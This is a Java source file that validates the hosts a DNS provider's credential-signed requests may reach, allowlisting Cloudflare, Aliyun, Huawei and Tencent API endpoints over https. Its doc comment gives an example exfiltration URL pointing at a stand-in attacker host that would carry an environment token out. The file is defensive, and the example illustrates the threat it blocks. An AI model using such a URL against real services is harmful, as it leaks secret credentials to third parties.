package dev.certflow.dns.service;

import dev.certflow.dns.provider.ServiceUrl;
import dev.certflow.security.DnsProviderType;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.regex.Pattern;

/**
 * Where a cloud provider's requests may go. The gateway signs them with credentials it resolves
 * from its own environment, so the host must be the vendor's API (any of its regional endpoints),
 * never one the {@code dns_service_url} names freely: a URL such as {@code
 * https://evil.example?token=$ENV:DNS_CF_TOKEN} would otherwise send the token there. Other hosts
 * (an emulator, a proxy) only through the gateway's own {@code CERTFLOW_DNS_API_HOSTS}.
 */
final class ApiHosts {

  private final List<String> extra;

  ApiHosts(List<String> extra) {
    this.extra = extra.stream().map(h -> h.strip().toLowerCase(Locale.ROOT)).toList();
  }

  /** The vendor's own API hosts; empty for providers that call no vendor API. */
  static Optional<Pattern> vendor(DnsProviderType type) {
    return switch (type) {
      case CLOUDFLARE -> Optional.of(Pattern.compile("api\\.cloudflare\\.com"));
      case ALIYUN -> Optional.of(Pattern.compile("alidns(\\.[a-z0-9-]+)?\\.aliyuncs\\.com"));
      case HUAWEI -> Optional.of(Pattern.compile("dns(\\.[a-z0-9-]+)?\\.myhuaweicloud\\.com"));
      case TENCENT ->
          Optional.of(Pattern.compile("dnspod(\\.[a-z0-9-]+)?\\.tencentcloudapi\\.com"));
      // The DNS server a TSIG-signed update goes to is the user's own; the key never leaves.
      case RFC2136, MANUAL -> Optional.empty();
    };
  }

  /**
   * Checks the URL's host for the provider.
   *
   * @throws IllegalArgumentException naming the provider and the hosts it may use
   */
  void check(DnsProviderType type, ServiceUrl url) {
    Optional<Pattern> vendor = vendor(type);
    if (vendor.isEmpty()) {
      return;
    }
    String host = url.uri().getHost() == null ? "" : url.uri().getHost().toLowerCase(Locale.ROOT);
    int port = url.uri().getPort();
    boolean vendorHost =
        vendor.get().matcher(host).matches()
            && "https".equalsIgnoreCase(url.uri().getScheme())
            && (port < 0 || port == 443);
    if (vendorHost || extra.contains(host)) {
      return;
    }
    throw new IllegalArgumentException(
        type.id()
            + ": dns_service_url must be the vendor's API ("
            + vendor.get().pattern().replace("\\", "")
            + " over https); another host only through CERTFLOW_DNS_API_HOSTS on dns-gateway");
  }
}
